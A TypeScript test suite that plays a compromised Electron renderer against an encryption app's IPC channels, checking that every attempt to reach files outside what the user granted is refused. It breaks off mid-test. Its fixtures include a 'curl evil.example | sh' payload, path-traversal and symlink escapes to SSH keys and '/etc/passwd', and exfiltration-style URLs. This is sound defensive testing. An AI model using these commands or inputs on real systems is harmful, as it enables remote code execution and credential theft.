/**
 * The window's page played as an attacker.
 *
 * A compromised renderer can call every channel of `window.kenv` with any arguments. These tests do exactly that,
 * through the handler registry the app ships (`registerHandlers` on a `HandlerRegistry`, and Electron's IPC wrapper
 * where the route matters), against real files in a temporary home folder: a `.bashrc`, an SSH key, an attacker's
 * `.kenv` in Downloads. Each hostile call must come back refused, and a snapshot of the whole tree (path, size, mtime,
 * sha256, link target) must be the same afterwards: nothing anywhere changed.
 */
import { createHash, generateKeyPairSync } from 'node:crypto';
import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, realpath, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import type { Result } from '../../shared/errors.js';
import { CHANNELS, IPC_DROP, IPC_INVOKE } from '../../shared/ipc.js';
import { DOCUMENTATION_URLS, isDocumentationUrl } from '../../electron/core/app/external-links.js';
import { grantDropped } from '../../electron/core/app/grants.js';
import { type InvokeEvent, isAppUrl, registerIpc } from '../../electron/core/app/ipc-wrapper.js';
import type { VaultOps } from '../../electron/core/app/services.js';
import { SettingsStore } from '../../electron/core/app/settings-store.js';
import { VaultSyncService } from '../../electron/core/app/vault-sync-service.js';
import { S3Client } from '@aws-sdk/client-s3';
import { KenvError } from '../../electron/core/errors.js';
import { decryptedName } from '../../electron/core/files.js';
import { formatRecipient } from '../../electron/core/keyring/recipient.js';
import { makeApp, RecordingSink, recordingShell } from '../support/app-services.js';

const MAGIC = 'KENV-TEST-SEALED\n';

/**
 * A vault that really writes, with the core's naming and its refusal to overwrite without `force`, so that a guard
 * that fails shows up as a changed file in the snapshot. (The crypto is not the point here: it copies bytes.)
 */
function writingVault(): VaultOps & { calls: string[] } {
  const calls: string[] = [];
  const write = async (target: string, bytes: Buffer | string, force: boolean | undefined) => {
    await writeFile(target, bytes, { flag: force ? 'w' : 'wx' }).catch((e: NodeJS.ErrnoException) => {
      if (e.code === 'EEXIST') throw new KenvError('OUTPUT_EXISTS', `${target} exists already; nothing was overwritten.`);
      throw e;
    });
  };
  return {
    calls,
    async encryptFile(path, opts) {
      calls.push(`encrypt ${path}`);
      const target = opts.replacePath ?? join(opts.outDir ?? dirname(path), `${basename(path)}.kenv`);
      const plain = await readFile(path);
      await write(target, Buffer.concat([Buffer.from(MAGIC), plain]), opts.force || opts.replacePath !== undefined);
      return { outputPath: target, bytesIn: plain.length, bytesOut: plain.length + MAGIC.length };
    },
    async decryptFile(path, opts) {
      calls.push(`decrypt ${path}`);
      const sealed = await readFile(path);
      if (!sealed.subarray(0, MAGIC.length).equals(Buffer.from(MAGIC))) throw new KenvError('NOT_KENV', `${basename(path)} is not a .kenv file.`);
      const target = join(opts.outDir ?? dirname(path), decryptedName(path));
      await write(target, sealed.subarray(MAGIC.length), opts.force);
      return { outputPath: target, bytesOut: sealed.length - MAGIC.length };
    },
    async canOpen(path) {
      calls.push(`canOpen ${path}`);
      return { canOpen: false, keys: [] };
    },
    async inspectFile(path) {
      calls.push(`inspect ${path}`);
      const sealed = await readFile(path);
      if (!sealed.subarray(0, MAGIC.length).equals(Buffer.from(MAGIC))) throw new KenvError('NOT_KENV', `${basename(path)} is not a .kenv file.`);
      return { suiteId: 0x0478, suiteName: 'test', signed: false, messageId: '00', encryptionContext: {}, keys: [{ providerId: 'aws-kms', keyArn: 'arn:aws:kms:eu-west-1:111122223333:key/test' }], frameLength: 4096 };
    },
  };
}

type Entry = string;

/** Every path under `root` with what it is: a folder, a link and its target, or a file's size, mtime and sha256. */
async function snapshot(root: string): Promise<Map<string, Entry>> {
  const out = new Map<string, Entry>();
  const walk = async (dir: string) => {
    for (const name of (await readdir(dir)).sort()) {
      const path = join(dir, name);
      const info = await lstat(path);
      if (info.isSymbolicLink()) out.set(path, `link → ${await readlink(path)}`);
      else if (info.isDirectory()) {
        out.set(path, `folder mtime=${info.mtimeMs}`);
        await walk(path);
      } else out.set(path, `file size=${info.size} mtime=${info.mtimeMs} sha256=${createHash('sha256').update(await readFile(path)).digest('hex')}`);
    }
  };
  await walk(root);
  return out;
}

let home: string;
let granted: string;
let app: Awaited<ReturnType<typeof makeApp>>;
let vault: ReturnType<typeof writingVault>;
let shell: ReturnType<typeof recordingShell>;
let before: Map<string, Entry>;

const call = (channel: string, payload: unknown) => app.registry.invoke(channel, payload);

/** The call was refused as not allowed, and nothing under the home folder changed. */
async function refused(result: Result<unknown> | Promise<Result<unknown>>, code = 'NOT_ALLOWED') {
  expect(await result).toMatchObject({ ok: false, error: { code } });
  await unchanged();
}

async function unchanged() {
  await app.services.jobs.whenIdle();
  expect(Object.fromEntries(await snapshot(home))).toEqual(Object.fromEntries(before));
}

beforeEach(async () => {
  home = await realpath(await mkdtemp(join(tmpdir(), 'kenv-attacked-home-')));
  await mkdir(join(home, '.ssh'), { mode: 0o700 });
  await writeFile(join(home, '.bashrc'), 'export PATH="$HOME/bin:$PATH"\n');
  await writeFile(join(home, '.ssh', 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
  await mkdir(join(home, 'Downloads'));
  // The attacker's file: decrypting it next to itself would write Downloads/.bashrc; into home, ~/.bashrc.
  await writeFile(join(home, 'Downloads', '.bashrc.kenv'), `${MAGIC}curl evil.example | sh\n`);
  // What the user dropped on the window: one folder, holding a file, an attacker's .kenv whose plaintext name is
  // taken, a link out to the SSH key and a link out to the home folder.
  granted = join(home, 'Documents', 'to-encrypt');
  await mkdir(join(granted, 'sub'), { recursive: true });
  await writeFile(join(granted, 'notes.txt'), 'meeting notes');
  await writeFile(join(granted, 'report.txt'), 'the real report');
  await writeFile(join(granted, 'report.txt.kenv'), `${MAGIC}a forged report\n`);
  await writeFile(join(granted, 'broken.kenv'), 'not a kenv file');
  await symlink(join(home, '.ssh', 'id_ed25519'), join(granted, 'escape'));
  await symlink(home, join(granted, 'home-link'));
  await mkdir(join(home, '.local', 'share', 'Trash'), { recursive: true });
  
  vault = writingVault();
  shell = recordingShell({ trashDir: join(home, '.local', 'share', 'Trash') });
  const settings = SettingsStore.inFolder(join(home, '.config', 'kenv'));
  await settings.update({});
  // The same services and handler registry the app wires, over the writing vault and the recording shell.
  app = await makeApp({ vault, shell, settings });

  // The user drops the folder: the preload's route, through the core function Electron's drop message reaches.
  expect(await grantDropped(app.grants, [granted])).toEqual({ ok: true, value: [granted] });
  before = await snapshot(home);
});

const outside = () => ({
  home,
  bashrc: join(home, '.bashrc'),
  sshKey: join(home, '.ssh', 'id_ed25519'),
  sshFolder: join(home, '.ssh'),
  attackerKenv: join(home, 'Downloads', '.bashrc.kenv'),
  climb: join(granted, '..', '..', '.ssh', 'id_ed25519'),
  climbFolder: join(granted, '..'),
  linkOut: join(granted, 'escape'),
  linkedFolder: join(granted, 'home-link'),
  throughLink: join(granted, 'home-link', '.ssh', 'id_ed25519'),
  system: '/etc/passwd',
  relative: '.bashrc',
});

describe('a compromised page', () => {
  it('cannot list a folder it was not given (files:plan)', async () => {
    for (const [name, path] of Object.entries(outside())) {
      expect(await call('files:plan', { paths: [path] }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    // Even mixed in with a granted path, one foreign path refuses the whole request.
    await refused(call('files:plan', { paths: [join(granted, 'notes.txt'), join(home, '.ssh')] }));
  });

  it('lists a granted folder without following links out of it', async () => {
    const planned = await call('files:plan', { paths: [granted] });
    expect(planned.ok && planned.value).toEqual(expect.arrayContaining([expect.objectContaining({ path: join(granted, 'notes.txt') })]));
    expect(JSON.stringify(planned)).not.toContain('id_ed25519');
    expect(JSON.stringify(planned)).not.toContain('home-link');
    await unchanged();
  });

  it('cannot read the header of a file it was not given (files:inspect)', async () => {
    for (const [name, path] of Object.entries(outside())) {
      expect(await call('files:inspect', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(vault.calls).toEqual([]);
    await unchanged();
  });

  it('cannot make KMS calls about a file it was not given (files:canOpen)', async () => {
    for (const [name, path] of Object.entries(outside())) {
      expect(await call('files:canOpen', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(vault.calls).toEqual([]);
    expect(await call('files:canOpen', { path: join(granted, 'report.txt.kenv') })).toMatchObject({ ok: true });
    expect(vault.calls).toEqual([`canOpen ${join(granted, 'report.txt.kenv')}`]);
    await unchanged();
  });

  it('cannot encrypt or decrypt a file it was not given (jobs:start inputs)', async () => {
    for (const [name, path] of Object.entries(outside())) {
      for (const direction of ['encrypt', 'decrypt'] as const) {
        expect(await call('jobs:start', { files: [{ path, direction }], keyIds: ['alias/attacker'], outDir: null }), `${name} ${direction}`)
          .toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
      }
    }
    expect(vault.calls).toEqual([]);
    await unchanged();
  });

  it('cannot make ~/.ssh/id_ed25519 disappear, even with "move originals to the trash" on', async () => {
    // The page cannot turn the setting on by itself (the user says no to the native question)…
    await refused(call('settings:update', { deletePlaintextAfterEncrypt: true }));
    // …and with the user having turned it on, the key is still not the page's to encrypt.
    await app.services.settings.update({ deletePlaintextAfterEncrypt: true });
    before = await snapshot(home);
    await refused(call('jobs:start', { files: [{ path: outside().sshKey, direction: 'encrypt' }], keyIds: ['alias/attacker'], outDir: granted }));
    await refused(call('jobs:start', { files: [{ path: outside().linkOut, direction: 'encrypt' }], keyIds: ['alias/attacker'], outDir: granted }));
    expect(shell.trashed).toEqual([]);
  });

  it('cannot save into a folder it was not given (jobs:start outDir)', async () => {
    const { home: h, sshFolder, climbFolder, linkedFolder, system } = outside();
    for (const outDir of [h, sshFolder, climbFolder, linkedFolder, dirname(system), join(home, 'Downloads'), 'relative']) {
      expect(await call('jobs:start', { files: [{ path: join(granted, 'notes.txt'), direction: 'encrypt' }], keyIds: ['k'], outDir }), outDir)
        .toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(vault.calls).toEqual([]);
    await unchanged();
  });

  it("cannot widen a dropped file to its folder", async () => {
    const only = join(home, 'Downloads', 'single.txt');
    await writeFile(only, 'dropped alone');
    await grantDropped(app.grants, [only]);
    before = await snapshot(home);
    await refused(call('files:plan', { paths: [join(home, 'Downloads')] }));
    await refused(call('files:inspect', { path: outside().attackerKenv }));
    await refused(call('jobs:start', { files: [{ path: only, direction: 'encrypt' }], keyIds: ['k'], outDir: join(home, 'Downloads') }));
  });

  it('cannot overwrite a file it was not given: replacing needs the user to confirm, naming the file', async () => {
    // The attacker's report.txt.kenv sits in the dropped folder; decrypting it would overwrite report.txt.
    const started = await call('jobs:start', { files: [{ path: join(granted, 'report.txt.kenv'), direction: 'decrypt' }], keyIds: [], outDir: null });
    expect(started.ok).toBe(true);
    await app.services.jobs.whenIdle();
    const [job] = app.services.jobs.list();
    expect(job).toMatchObject({ state: 'failed', error: { code: 'OUTPUT_EXISTS' } });
    await unchanged();

    // The page presses "Replace" for the user: the main process asks natively, and the user (the test shell) says no.
    await refused(call('jobs:retry', { jobId: job!.id, replace: true }));
    expect(shell.asked).toEqual([expect.objectContaining({ message: 'Replace report.txt?', detail: expect.stringContaining(join(granted, 'report.txt')) })]);
    expect(await readFile(join(granted, 'report.txt'), 'utf8')).toBe('the real report');
  });

  it("cannot decrypt an attacker's .kenv over ~/.bashrc", async () => {
    // Even a .kenv the user double-clicked (so the page may decrypt it) cannot be written into a folder the user did
    // not choose, and what it would replace is named to the user first.
    await app.services.openRequests.add([outside().attackerKenv]);
    await writeFile(join(home, 'Downloads', '.bashrc'), 'the Downloads copy');
    before = await snapshot(home);
    await refused(call('jobs:start', { files: [{ path: outside().attackerKenv, direction: 'decrypt' }], keyIds: [], outDir: home }));
    expect(await call('jobs:start', { files: [{ path: outside().attackerKenv, direction: 'decrypt' }], keyIds: [], outDir: null })).toMatchObject({ ok: true });
    await app.services.jobs.whenIdle();
    const [job] = app.services.jobs.list();
    expect(job).toMatchObject({ state: 'failed', error: { code: 'OUTPUT_EXISTS' } });
    await refused(call('jobs:retry', { jobId: job!.id, replace: true }));
    expect(shell.asked.map((q) => q.detail)).toEqual([expect.stringContaining(join(home, 'Downloads', '.bashrc'))]);
    expect(await readFile(outside().bashrc, 'utf8')).toBe('export PATH="$HOME/bin:$PATH"\n');
  });

  it('cannot slip a replace flag into jobs:start', async () => {
    await refused(call('jobs:start', { files: [{ path: join(granted, 'report.txt.kenv'), direction: 'decrypt', replace: true }], keyIds: [], outDir: null }), 'INVALID_REQUEST');
    await refused(call('jobs:start', { files: [{ path: join(granted, 'report.txt.kenv'), direction: 'decrypt' }], keyIds: [], outDir: null, force: true }), 'INVALID_REQUEST');
  });

  it('cannot replace with a job that did not stop at an existing file', async () => {
    await call('jobs:start', { files: [{ path: join(granted, 'broken.kenv'), direction: 'decrypt' }], keyIds: [], outDir: null });
    await app.services.jobs.whenIdle();
    const [job] = app.services.jobs.list();
    expect(job).toMatchObject({ state: 'failed', error: { code: 'NOT_KENV' } });
    shell.answer = true;
    await refused(call('jobs:retry', { jobId: job!.id, replace: true }), 'INVALID_ARGUMENT');
  });

  it('cannot open with the OS a file it was not given, even after a failed job on it', async () => {
    // The old hole: a failing decrypt of any path made that path "a job file" that shell:openPath would open.
    for (const [name, path] of Object.entries(outside())) {
      await call('jobs:start', { files: [{ path, direction: 'decrypt' }], keyIds: [], outDir: null });
      expect(await call('shell:openPath', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
      expect(await call('shell:showInFolder', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    // A granted input whose job failed is still not something to run: only finished outputs are.
    await call('jobs:start', { files: [{ path: join(granted, 'broken.kenv'), direction: 'decrypt' }], keyIds: [], outDir: null });
    await app.services.jobs.whenIdle();
    await refused(call('shell:openPath', { path: join(granted, 'broken.kenv') }));
    await refused(call('shell:openPath', { path: join(granted, 'notes.txt') }));
    expect(shell.opened).toEqual([]);
  });

  it('cannot decrypt privately a file it was not given (private:open)', async () => {
    for (const [name, path] of Object.entries(outside())) {
      expect(await call('private:open', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(vault.calls).toEqual([]);
    expect(shell.opened).toEqual([]);
    await unchanged();
  });

  it('cannot turn on "move originals to the trash" without the user confirming natively', async () => {
    await refused(call('settings:update', { deletePlaintextAfterEncrypt: true }));
    expect(shell.asked).toHaveLength(1);
    expect((await app.services.settings.get()).deletePlaintextAfterEncrypt).toBe(false);
  });

  it('cannot point the vault folder or the output location at a folder it did not choose in a dialog', async () => {
    for (const folder of [home, join(home, '.ssh'), granted, outside().climbFolder, outside().linkedFolder]) {
      expect(await call('settings:update', { outputLocation: 'vault-folder', vaultFolder: folder }), folder).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(await app.services.settings.get()).toMatchObject({ outputLocation: 'next-to-file', vaultFolder: null });
    await unchanged();
  });

  it('cannot bind a vault folder it did not choose in a dialog (vault:bind)', async () => {
    for (const folder of [home, join(home, '.ssh'), granted, outside().climbFolder, outside().linkedFolder]) {
      expect(await call('vault:bind', { folder, remote: 's3://attacker-bucket/loot' }), folder).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect((await app.services.settings.get()).vaultBinding ?? null).toBeNull();
    await unchanged();
  });

  it('cannot climb out of a granted folder with ..', async () => {
    const { climb, climbFolder } = outside();
    await refused(call('files:plan', { paths: [climbFolder] }));
    await refused(call('files:inspect', { path: climb }));
    await refused(call('jobs:start', { files: [{ path: climb, direction: 'encrypt' }], keyIds: ['k'], outDir: null }));
    await refused(call('jobs:start', { files: [{ path: join(granted, 'notes.txt'), direction: 'encrypt' }], keyIds: ['k'], outDir: climbFolder }));
    await refused(call('private:open', { path: join(granted, '..', '..', 'Downloads', '.bashrc.kenv') }));
  });

  it('cannot follow a symbolic link inside a granted folder to a file or folder outside it', async () => {
    const { linkOut, linkedFolder, throughLink } = outside();
    for (const path of [linkOut, throughLink]) {
      await refused(call('files:inspect', { path }));
      await refused(call('jobs:start', { files: [{ path, direction: 'encrypt' }], keyIds: ['k'], outDir: null }));
      await refused(call('private:open', { path }));
    }
    await refused(call('files:plan', { paths: [linkedFolder] }));
    await refused(call('jobs:start', { files: [{ path: join(granted, 'notes.txt'), direction: 'encrypt' }], keyIds: ['k'], outDir: linkedFolder }));
  });

  it('cannot grant itself a path through invoke, and a drop counts only from the top frame of the app', async () => {
    const ipc = new Map<string, (event: InvokeEvent, ...args: unknown[]) => Promise<unknown>>();
    registerIpc({ handle: (c, l) => { ipc.set(c, l); }, removeHandler: (c) => { ipc.delete(c); } }, app.registry, { isTrustedUrl: isAppUrl, grants: app.grants });
    const top = { senderFrame: { url: 'app://kenv/index.html', parent: null } };
    const frame = { senderFrame: { url: 'app://kenv/index.html', parent: top.senderFrame } };
    expect(await ipc.get(IPC_INVOKE)!(top, 'kenv:drop', [home])).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    expect(await ipc.get(IPC_INVOKE)!(top, 'grants:add', { path: home })).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    expect(await ipc.get(IPC_DROP)!(frame, [home])).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    expect(await ipc.get(IPC_DROP)!({ senderFrame: { url: 'https://evil.example/', parent: null } }, [home])).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    await refused(call('files:plan', { paths: [home] }));
  });

  it('cannot open arbitrary URLs in the browser: only the documentation list of the main process', () => {
    for (const url of [
      'https://evil.example/collect?key=AKIA', 'http://docs.aws.amazon.com/kms/latest/developerguide/overview.html',
      'file:///etc/passwd', 'smb://attacker/share', 'javascript:alert(1)', 'mailto:x@evil.example',
      `${DOCUMENTATION_URLS[0]}?leak=1`, `${DOCUMENTATION_URLS[0]}#leak`, `${DOCUMENTATION_URLS[0]}.evil.example`,
      DOCUMENTATION_URLS[0]!.replace('https://docs.aws.amazon.com', 'https://docs.aws.amazon.com@evil.example'),
      ` ${DOCUMENTATION_URLS[0]}`, DOCUMENTATION_URLS[0]!.toUpperCase(),
    ]) expect(isDocumentationUrl(url), url).toBe(false);
    expect(DOCUMENTATION_URLS.every((u) => isDocumentationUrl(u) && u.startsWith('https://'))).toBe(true);
    // And no channel of the contract opens a URL.
    expect(CHANNELS.filter((c) => /external|url|browser/i.test(c))).toEqual([]);
  });

  it('every channel that takes a path is in this suite; a new one must be added here', () => {
    const pathTaking = ['files:plan', 'files:inspect', 'files:canOpen', 'jobs:start', 'private:open', 'shell:showInFolder', 'shell:openPath', 'settings:update', 'vault:bind',
      // Vault-relative paths, checked against the bound folder: 'the vault panel' below.
      'vault:reveal', 'vault:resolveConflict', 'recipient:inspect', 'recipient:encrypt'];
    const pathFree = ['app:takeOpenedFiles', 'identity:get', 'identity:useProfile', 'identity:signIn', 'keys:list', 'jobs:cancel', 'jobs:retry', 'jobs:list', 'jobs:clearFinished',
      'private:reencrypt', 'private:close', 'private:list', 'dialog:chooseFiles', 'dialog:chooseFolder', 'settings:get',
      'vault:get', 'vault:unbind', 'vault:syncNow', 'vault:pause', 'vault:resume', 'vault:allowDeletions', 'vault:verify', 'keys:exportRecipient',
      // Acts only on the plaintext the last scan found in the bound folder, after a native confirmation.
      'vault:encryptPlaintext', 'recipient:choose'];
    expect([...app.registry.channels()].sort()).toEqual([...pathTaking, ...pathFree].sort());
  });
});

describe('a compromised page and recipient files (Encrypt for a recipient…)', () => {
  const ARN = 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
  const rsaPublicDer = (bits: number) => generateKeyPairSync('rsa', { modulusLength: bits }).publicKey.export({ format: 'der', type: 'spki' });

  it('cannot read or use a recipient file it was not given (recipient:inspect, recipient:encrypt)', async () => {
    const foreign = join(home, 'Downloads', 'attacker.recipient');
    await writeFile(foreign, formatRecipient(ARN, 'RSAES_OAEP_SHA_256', rsaPublicDer(2048)));
    before = await snapshot(home);
    for (const [name, path] of Object.entries({ ...outside(), foreign })) {
      expect(await call('recipient:inspect', { path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
      expect(await call('recipient:encrypt', { recipient: path, paths: [join(granted, 'notes.txt')], outDir: null }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    // A granted recipient does not open up inputs or folders the page was not given.
    const mine = join(granted, 'team.recipient');
    await writeFile(mine, formatRecipient(ARN, 'RSAES_OAEP_SHA_256', rsaPublicDer(2048)));
    before = await snapshot(home);
    for (const [name, path] of Object.entries(outside())) {
      expect(await call('recipient:encrypt', { recipient: mine, paths: [path], outDir: null }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
      expect(await call('recipient:encrypt', { recipient: mine, paths: [join(granted, 'notes.txt')], outDir: path }), name).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
    }
    expect(vault.calls).toEqual([]);
    await unchanged();
  });

  it('cannot choose a recipient file for the user: only the native dialog grants one', async () => {
    const chosen = join(home, 'Downloads', 'inbox.recipient');
    await writeFile(chosen, formatRecipient(ARN, 'RSAES_OAEP_SHA_1', rsaPublicDer(3072)));
    shell.chooseRecipientFile = async () => null;
    expect(await call('recipient:choose', {})).toEqual({ ok: true, value: null });
    expect(await call('recipient:choose', { path: chosen })).toMatchObject({ ok: false, error: { code: 'INVALID_REQUEST' } });
    shell.chooseRecipientFile = async () => chosen;
    expect(await call('recipient:choose', {})).toEqual({ ok: true, value: { path: chosen, name: 'inbox.recipient', keyArn: ARN, algorithm: 'RSAES_OAEP_SHA_1', keyBits: 3072 } });
    // Granted for reading only: its folder stays out of reach.
    expect(await call('files:inspect', { path: outside().attackerKenv })).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
  });

  it('gets a clear error and nothing written for a hostile recipient file', async () => {
    const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).publicKey.export({ format: 'pem', type: 'spki' }).toString();
    const pss = generateKeyPairSync('rsa-pss', { modulusLength: 2048 }).publicKey.export({ format: 'pem', type: 'spki' }).toString();
    const good = formatRecipient(ARN, 'RSAES_OAEP_SHA_256', rsaPublicDer(2048));
    const pem = good.slice(good.indexOf('-----BEGIN'));
    const hostile: Record<string, [string, RegExp]> = {
      'wrong PEM': [good.replace(/(-----BEGIN PUBLIC KEY-----\n)..../, '$1AAAA'), /does not parse/],
      'a private key': [good.replace(pem, generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ format: 'pem', type: 'pkcs8' }).toString()), /no PEM public key/],
      'key too small': [formatRecipient(ARN, 'RSAES_OAEP_SHA_256', rsaPublicDer(1024)), /2048 bits or more/],
      'an EC signing key': [good.replace(pem, ec), /not an RSA key/],
      'an RSA-PSS signing key': [good.replace(pem, pss), /not an RSA key/],
      'garbage ARN': [good.replace(ARN, 'arn:aws:kms:eu-west-1:111122223333:alias/../../etc'), /is not a KMS key ARN/],
      'two ARNs': [good.replace('Encryption-Algorithm', `Key-ARN: ${ARN}\nEncryption-Algorithm`), /2 Key-ARN lines/],
      'unknown algorithm': [good.replace('RSAES_OAEP_SHA_256', 'RSAES_PKCS1_V1_5'), /is not RSAES_OAEP_SHA_256/],
      'not a recipient at all': ['\u0000\u0001binary garbage', /no Key-ARN line/],
      'too large': [good + '#'.repeat(70_000), /larger than 64 KiB/],
    };
    for (const [name, [text, message]] of Object.entries(hostile)) {
      const path = join(granted, `${name.replace(/\W+/g, '-')}.recipient`);
      await writeFile(path, text);
      before = await snapshot(home);
      const inspected = await call('recipient:inspect', { path });
      expect(inspected, name).toMatchObject({ ok: false, error: { code: 'INVALID_KEY', message: expect.stringMatching(message) } });
      const started = await call('recipient:encrypt', { recipient: path, paths: [join(granted, 'notes.txt')], outDir: null });
      expect(started, name).toMatchObject({ ok: false, error: { code: 'INVALID_KEY', message: expect.stringMatching(message) } });
      await unchanged();
    }
    expect(vault.calls).toEqual([]);
  });

  it('encrypts only granted files for a granted recipient, never deletes the originals, and names the key on each job', async () => {
    await app.services.settings.update({ deletePlaintextAfterEncrypt: true });
    const path = join(granted, 'team.recipient');
    await writeFile(path, formatRecipient(ARN, 'RSAES_OAEP_SHA_256', rsaPublicDer(2048)));
    const started = await call('recipient:encrypt', { recipient: path, paths: [granted], outDir: null });
    expect(started.ok).toBe(true);
    await app.services.jobs.whenIdle();
    const jobs = app.services.jobs.list();
    // The folder's plain files, not its .kenv files, links or the recipient file itself.
    expect(jobs.map((j) => j.name).sort()).toEqual(['notes.txt', 'report.txt']);
    expect(jobs.every((j) => !j.inputDeleted && j.keyIds[0] === ARN)).toBe(true);
    // report.txt.kenv (the attacker's) is in the way: that job stops there, nothing is overwritten.
    expect(jobs.find((j) => j.name === 'notes.txt')).toMatchObject({ state: 'done', outputPath: join(granted, 'notes.txt.kenv') });
    expect(jobs.find((j) => j.name === 'report.txt')).toMatchObject({ state: 'failed', error: { code: 'OUTPUT_EXISTS' } });
    expect(vault.calls).toEqual([`encrypt ${join(granted, 'notes.txt')}`, `encrypt ${join(granted, 'report.txt')}`]);
    expect(shell.trashed).toEqual([]);
    expect(await readFile(join(granted, 'notes.txt'), 'utf8')).toBe('meeting notes');
  });
});

describe('what the user grants', () => {
  it('a folder chosen in the dialog takes outputs; confirmed, originals go to the trash, never unlinked', async () => {
    const out = join(home, 'Sealed');
    await mkdir(out);
    shell.chooseFolder = async () => out;
    expect(await call('dialog:chooseFolder', {})).toEqual({ ok: true, value: out });
    shell.answer = true;
    expect(await call('settings:update', { deletePlaintextAfterEncrypt: true })).toMatchObject({ ok: true });
    expect(await call('jobs:start', { files: [{ path: join(granted, 'notes.txt'), direction: 'encrypt' }], keyIds: ['k'], outDir: out })).toMatchObject({ ok: true });
    await app.services.jobs.whenIdle();
    expect(app.services.jobs.list()).toMatchObject([{ state: 'done', inputDeleted: true, outputPath: join(out, 'notes.txt.kenv') }]);
    expect(shell.trashed).toEqual([join(granted, 'notes.txt')]);
    const trash = join(home, '.local', 'share', 'Trash');
    expect(await readFile(join(trash, (await readdir(trash))[0]!), 'utf8')).toBe('meeting notes');
    // The finished output may now be opened with the OS; its input may not.
    expect(await call('shell:openPath', { path: join(out, 'notes.txt.kenv') })).toEqual({ ok: true, value: null });
  });

  it('a file the OS asked the app to open may be decrypted next to itself, and its output opened', async () => {
    const sealed = join(home, 'Downloads', 'minutes.md.kenv');
    await writeFile(sealed, `${MAGIC}minutes`);
    await app.services.openRequests.add([`file://${sealed}`]);
    expect(await call('app:takeOpenedFiles', {})).toEqual({ ok: true, value: [sealed] });
    expect(await call('jobs:start', { files: [{ path: sealed, direction: 'decrypt' }], keyIds: [], outDir: null })).toMatchObject({ ok: true });
    await app.services.jobs.whenIdle();
    expect(await call('shell:openPath', { path: join(home, 'Downloads', 'minutes.md') })).toEqual({ ok: true, value: null });
    // Its neighbours stay out of reach.
    expect(await call('files:inspect', { path: outside().attackerKenv })).toMatchObject({ ok: false, error: { code: 'NOT_ALLOWED' } });
  });
});

describe('a compromised page and the vault panel (issue 14)', () => {
  let vaultDir: string;

  beforeEach(async () => {
    // The user bound ~/Vault (chosen in the dialog) to a bucket that lists empty; every other S3 call fails fast,
    // so nothing reaches a bucket. Paused, so no sync runs while the page attacks.
    vaultDir = join(home, 'Vault');
    await mkdir(vaultDir);
    await writeFile(join(vaultDir, 'doc.kenv'), `${MAGIC}the vault's file`);
    await writeFile(join(vaultDir, 'notes.txt'), 'plaintext dropped into the vault');
    await symlink(join(home, '.ssh', 'id_ed25519'), join(vaultDir, 'link-out'));
    const settings = SettingsStore.inFolder(join(home, '.config', 'kenv'));
    const events = new RecordingSink();
    const vaults = new VaultSyncService({
      settings, events, trash: (path) => shell.trashItem(path), watch: { pollMs: 3_600_000 },
      s3Client: async () => {
        const client = new S3Client({ endpoint: 'http://127.0.0.1:9', region: 'eu-west-1', forcePathStyle: true, maxAttempts: 1, credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' } });
        client.middlewareStack.add((next, context) => async (args) => {
          if (context.commandName === 'ListObjectsV2Command') return { output: { $metadata: {}, Contents: [], IsTruncated: false }, response: {} };
          return next(args);
        }, { step: 'initialize', name: 'emptyListing' });
        return client;
      },
    });
    app = await makeApp({ vault, shell, settings, vaults, events, grants: app.grants });
    shell.chooseFolder = async () => vaultDir;
    expect(await call('dialog:chooseFolder', {})).toEqual({ ok: true, value: vaultDir });
    expect(await call('vault:bind', { folder: vaultDir, remote: 's3://team-vaults/finance' })).toMatchObject({ ok: true });
    expect(await call('vault:pause', {})).toMatchObject({ ok: true, value: { binding: { paused: true } } });
    before = await snapshot(home);
    return () => vaults.dispose();
  });

  const hostilePaths = () => ['../.bashrc', '../.ssh/id_ed25519', 'sub/../../.bashrc', '..', outside().bashrc, outside().sshKey, '/etc/passwd', 'link-out', 'link-out/..', 'C:\\Windows\\win.ini'];

  it('cannot reveal a file outside the vault folder (vault:reveal)', async () => {
    for (const path of hostilePaths()) {
      expect(await call('vault:reveal', { path }), path).toMatchObject({ ok: false, error: { code: expect.stringMatching(/^(NOT_ALLOWED|INPUT_NOT_FOUND)$/) } });
    }
    expect(shell.opened).toEqual([]);
    await unchanged();
    // Its own files, yes.
    expect(await call('vault:reveal', { path: 'doc.kenv' })).toEqual({ ok: true, value: null });
    expect(shell.opened).toEqual([`show:${join(vaultDir, 'doc.kenv')}`]);
  });

  it('cannot resolve a "conflict" with a path outside the vault, or one the sync did not keep: nothing is trashed or renamed', async () => {
    shell.answer = true;
